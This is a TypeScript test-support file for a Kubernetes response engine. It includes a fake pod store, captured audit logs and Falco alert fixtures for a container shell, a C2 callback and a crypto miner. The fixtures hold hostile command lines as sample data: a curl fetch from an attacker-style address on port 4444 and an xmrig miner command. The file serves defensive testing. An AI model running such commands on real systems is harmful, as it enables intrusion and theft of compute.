/**
 * Shared by the `kshield respond` tests: an engine with an in-memory pod store (the unit tests;
 * the integration test uses the real API server), audit lines captured from pino, and test action
 * definitions that record what they were asked to do.
 */
import { Writable } from 'node:stream';
import { pino, type Logger } from 'pino';
import type { ActionDefinition, ActionOutcome } from '../../src/runtime/action.js';
import type { KubeClient } from '../../src/sources/kube-client.js';
import type { ClusterAccess, PodEvent } from '../../src/runtime/respond/cluster.js';
import { ResponseEngine, type ResponseEngineOptions } from '../../src/runtime/respond/engine.js';
import { parseResponsePolicy } from '../../src/runtime/respond/policy.js';
import { BUILTIN_ACTIONS } from '../../src/runtime/respond/builtin-actions.js';

export type Obj = Record<string, any>;

export function captureLog(): { log: Logger; lines: Obj[] } {
  const lines: Obj[] = [];
  const stream = new Writable({
    write(chunk: Buffer, _enc, done) {
      for (const l of chunk.toString('utf8').split('\n')) if (l.trim()) lines.push(JSON.parse(l));
      done();
    },
  });
  return { log: pino({ level: 'debug' }, stream), lines };
}

export class FakeCluster implements ClusterAccess {
  readonly pods = new Map<string, Obj>();
  readonly events: PodEvent[] = [];
  reads = 0;

  addPod(namespace: string, name: string, labels: Record<string, string> = {}): void {
    this.pods.set(`${namespace}/${name}`, { apiVersion: 'v1', kind: 'Pod', metadata: { namespace, name, uid: `uid-${name}`, labels }, spec: { nodeName: 'node-1', containers: [{ name: 'app', image: 'app:1' }] } });
  }

  async readPod(namespace: string, name: string): Promise<Obj | undefined> {
    this.reads++;
    return this.pods.get(`${namespace}/${name}`);
  }

  async recordEvent(event: PodEvent): Promise<void> {
    this.events.push(event);
  }
}

/** A mutating test action: records calls; `fail` makes it throw like an API error would. */
export function recordingAction(name: ActionDefinition['name'], calls: { params: Obj; dryRun: boolean; pod: string }[], behaviour: { fail?: () => boolean } = {}): ActionDefinition<Obj> {
  return {
    name,
    params: { type: 'object', additionalProperties: false, properties: { labels: { type: 'object', additionalProperties: { type: 'string' } }, mode: { type: 'string', enum: ['all', 'destination'] } } },
    mutates: true,
    async run(params, ctx): Promise<ActionOutcome> {
      calls.push({ params, dryRun: ctx.dryRun, pod: `${ctx.target.namespace}/${ctx.target.pod}` });
      if (behaviour.fail?.()) throw new Error('the API server answered 500');
      return { action: name, status: ctx.dryRun ? 'dry-run' : 'done', reason: `${name} ${ctx.dryRun ? 'would be ' : ''}applied`, objects: [{ apiVersion: 'v1', kind: 'Pod', namespace: ctx.target.namespace, name: ctx.target.pod, change: ctx.dryRun ? 'would-patch' : 'patched' }] };
    },
  };
}

/** No API server behind it: the unit tests' actions never use the client. */
export const NO_CLIENT = { k8s: undefined, kc: undefined } as unknown as KubeClient;

export function engineFor(policyYaml: string, actions: ActionDefinition<any>[], extra: Partial<ResponseEngineOptions> = {}): { engine: ResponseEngine; cluster: FakeCluster; lines: Obj[]; log: Logger } {
  const { log, lines } = captureLog();
  const cluster = new FakeCluster();
  const policy = parseResponsePolicy(policyYaml, 'policy.yaml', [...BUILTIN_ACTIONS, ...actions]);
  const engine = new ResponseEngine({ policy, actions, client: NO_CLIENT, cluster, log, ...extra });
  return { engine, cluster, lines, log };
}

/** Falco's HTTP output for a shell in a pod, written from Falco's documented JSON output format. */
export function falcoShellAlert(namespace = 'shop', pod = 'cart-5d9c7', extra: Obj = {}): Obj {
  return {
    hostname: 'node-1',
    output: `12:00:00.123456789: Notice A shell was spawned in a container with an attached terminal (user=root user_loginuid=-1 k8s.ns=${namespace} k8s.pod=${pod} container=3ad7b26ded6d shell=bash parent=runc cmdline=bash terminal=34816 container_id=3ad7b26ded6d image=shop/cart)`,
    priority: 'Notice',
    rule: 'Terminal shell in container',
    source: 'syscall',
    tags: ['container', 'maturity_stable', 'mitre_execution', 'shell', 'T1059'],
    time: '2026-01-30T12:00:00.123456789Z',
    output_fields: {
      'container.id': '3ad7b26ded6d',
      'container.image.repository': 'shop/cart',
      'container.name': 'cart',
      'evt.time': 1769774400123456789,
      'k8s.ns.name': namespace,
      'k8s.pod.name': pod,
      'proc.cmdline': 'bash',
      'proc.name': 'bash',
      'proc.pname': 'runc',
      'user.name': 'root',
    },
    ...extra,
  };
}

/**
 * Falco's HTTP output for an outbound connection to a known command-and-control address, in
 * Falco's documented JSON output format; the remote end is `fd.rip`/`fd.rport` with `fd.l4proto`.
 */
export function falcoC2Alert(namespace: string, pod: string, remote = { ip: '203.0.113.7', port: 4444 }): Obj {
  return {
    hostname: 'node-1',
    output: `12:01:00.000000001: Warning Outbound connection to C2 server (command=curl -s http://${remote.ip}:${remote.port}/p connection=10.244.0.12:50514->${remote.ip}:${remote.port} user=root container_id=9be3d7a1f2c4 image=shop/api k8s.ns=${namespace} k8s.pod=${pod})`,
    priority: 'Warning',
    rule: 'Outbound Connection to C2 Servers',
    source: 'syscall',
    tags: ['maturity_sandbox', 'host', 'container', 'network', 'mitre_command_and_control', 'TA0011'],
    time: '2026-01-30T12:01:00.000000001Z',
    output_fields: {
      'container.id': '9be3d7a1f2c4',
      'container.image.repository': 'shop/api',
      'container.name': 'app',
      'evt.time': 1769774460000000001,
      'fd.l4proto': 'tcp',
      'fd.name': `10.244.0.12:50514->${remote.ip}:${remote.port}`,
      'fd.rip': remote.ip,
      'fd.rport': remote.port,
      'k8s.ns.name': namespace,
      'k8s.pod.name': pod,
      'proc.cmdline': `curl -s http://${remote.ip}:${remote.port}/p`,
      'proc.pid': 4242,
      'user.loginuid': -1,
      'user.name': 'root',
    },
  };
}

/** Falco's alert for a miner speaking the Stratum protocol (a critical rule of Falco's catalogue). */
export function falcoMinerAlert(namespace: string, pod: string): Obj {
  return {
    hostname: 'node-1',
    output: `12:02:00.000000002: Critical Possible miner running (command=xmrig -o stratum+tcp://pool.example:3333 pid=777 container_id=51f0c2d9e8a7 image=shop/worker k8s.ns=${namespace} k8s.pod=${pod})`,
    priority: 'Critical',
    rule: 'Detect crypto miners using the Stratum protocol',
    source: 'syscall',
    tags: ['maturity_stable', 'host', 'container', 'process', 'mitre_impact', 'T1496'],
    time: '2026-01-30T12:02:00.000000002Z',
    output_fields: {
      'container.id': '51f0c2d9e8a7',
      'container.image.repository': 'shop/worker',
      'container.name': 'worker',
      'evt.time': 1769774520000000002,
      'k8s.ns.name': namespace,
      'k8s.pod.name': pod,
      'proc.cmdline': 'xmrig -o stratum+tcp://pool.example:3333',
      'proc.pid': 777,
      'user.name': 'root',
    },
  };
}

/**
 * falcosidekick's webhook body for a Falco alert: the same fields (its FalcoPayload) plus the
 * `uuid` it gives each event; `source`, `tags` and `hostname` are carried over from Falco.
 */
export function falcosidekickPayload(falco: Obj, uuid: string): Obj {
  return { uuid, output: falco.output, priority: falco.priority, rule: falco.rule, time: falco.time, output_fields: falco.output_fields, source: falco.source ?? 'syscall', tags: falco.tags ?? [], hostname: falco.hostname };
}
